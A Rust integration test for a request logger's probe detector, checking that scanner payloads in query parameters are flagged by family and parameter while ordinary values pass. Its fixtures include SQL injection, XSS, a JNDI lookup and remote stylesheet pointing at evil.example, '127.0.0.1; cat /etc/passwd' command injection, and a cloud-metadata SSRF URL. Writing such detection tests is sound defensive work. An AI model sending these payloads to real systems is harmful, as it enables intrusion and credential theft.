//! Payloads in query parameters, through a real socket: the line names the family
//! (`probe.rule`) and the parameter (`probe.param`), with the category; ordinary values
//! pass. The examples are those issue #14 found missed, placed where scanners put them.

mod support;

use axum::routing::get;
use axum::Router;
use reqlog::probe::ProbeDetector;
use reqlog::sink::MemorySink;
use reqlog::RequestLog;
use support::*;

/// Percent-encodes a query value as a scanner's HTTP client would.
fn enc(value: &str) -> String {
    let mut out = String::new();
    for b in value.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

async fn lines_for(targets: &[String]) -> Vec<reqlog::sink::RecordSnapshot> {
    let memory = MemorySink::new();
    let app = Router::new()
        .route("/", get(|| async { "home" }))
        .route("/item", get(|| async { "item" }))
        .layer(
            tower::ServiceBuilder::new()
                .layer(RequestLog::new().sink(memory.clone()))
                .layer(ProbeDetector::new()),
        );
    let addr = serve_axum(app).await;
    for t in targets {
        fetch(addr, &format!("{t} HTTP/1.1")).await;
    }
    let mut records = memory.wait_for(targets.len(), WAIT).await;
    // Lines come in completion order; put them back in request order.
    records.sort_by_key(|r| {
        let q = r.str("url.query").unwrap_or("").to_owned();
        targets
            .iter()
            .position(|t| t.ends_with(&q))
            .unwrap_or(usize::MAX)
    });
    records
}

#[tokio::test]
async fn payloads_the_old_rules_missed_are_named_with_their_parameter() {
    let cases: &[(&str, &str, &str, &str)] = &[
        ("id", "1 UNION ALL SELECT", "injection", "sqli"),
        ("id", "1' or 'a'='a", "injection", "sqli"),
        ("id", "1 or 1=1--", "injection", "sqli"),
        ("id", "1/**/or/**/1/**/=/**/1", "injection", "sqli"),
        ("id", "1 having 1=1--", "injection", "sqli"),
        ("id", "1||UTL_HTTP.REQUEST", "injection", "sqli"),
        (
            "id",
            "1;declare @s varchar(200) select @s = 0x73656c656374",
            "injection",
            "sqli",
        ),
        ("file", "/etc/crontab", "traversal", "lfi"),
        ("file", "/etc/ssh/sshd_config", "traversal", "lfi"),
        (
            "file",
            "C:\\inetpub\\wwwroot\\global.asa",
            "traversal",
            "lfi",
        ),
        (
            "q",
            "<DIV STYLE=\"width: expression(alert('XSS'))\">",
            "injection",
            "xss",
        ),
        (
            "q",
            "<LINK REL=\"stylesheet\" HREF=\"http://evil.example/xss.css\">",
            "injection",
            "xss",
        ),
        (
            "q",
            "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
            "injection",
            "xss",
        ),
        (
            "q",
            "<IMG SRC=\"jav&#x09;ascript:alert('XSS')\">",
            "injection",
            "xss",
        ),
        ("host", "127.0.0.1; cat /etc/passwd", "injection", "cmdi"),
        ("name", "{{7*7}}", "injection", "ssti"),
        (
            "x",
            "${${lower:j}ndi:ldap://evil.example/a}",
            "injection",
            "jndi",
        ),
        (
            "url",
            "http://169.254.169.254/latest/meta-data/",
            "injection",
            "ssrf",
        ),
        ("next", "%0d%0aSet-Cookie: a=b", "injection", "crlf"),
    ];
    let targets: Vec<String> = cases
        .iter()
        .map(|(param, value, ..)| format!("/item?lang=en&{param}={}", enc(value)))
        .collect();
    let records = lines_for(&targets).await;
    for (r, (param, value, category, family)) in records.iter().zip(cases) {
        assert_eq!(r.str("probe.category"), Some(*category), "{value}");
        assert_eq!(r.str("probe.rule"), Some(*family), "{value}");
        assert_eq!(r.str("probe.param"), Some(*param), "{value}");
        assert_eq!(r.str("level"), Some("WARN"));
    }
}

#[tokio::test]
async fn ordinary_values_are_not_probes() {
    let values = [
        "O'Brien",
        "rock 'n' roll",
        "select a course",
        "drop shipping",
        "union station",
        "what does <br> do",
        "C#",
        "a == b",
        "I <3 rust -- really",
        "{\"status\":\"active\"}",
        "2026-12-06",
        "3f2b8c1e-4d5a-4b6c-9e7f-0a1b2c3d4e5f",
        "/courses/rust?x=1",
    ];
    let targets: Vec<String> = values.iter().map(|v| format!("/?q={}", enc(v))).collect();
    let records = lines_for(&targets).await;
    assert_eq!(records.len(), values.len());
    for r in &records {
        assert_eq!(r.get("probe.category"), None, "{:?}", r.str("url.query"));
        assert_eq!(r.get("probe.param"), None);
    }
}
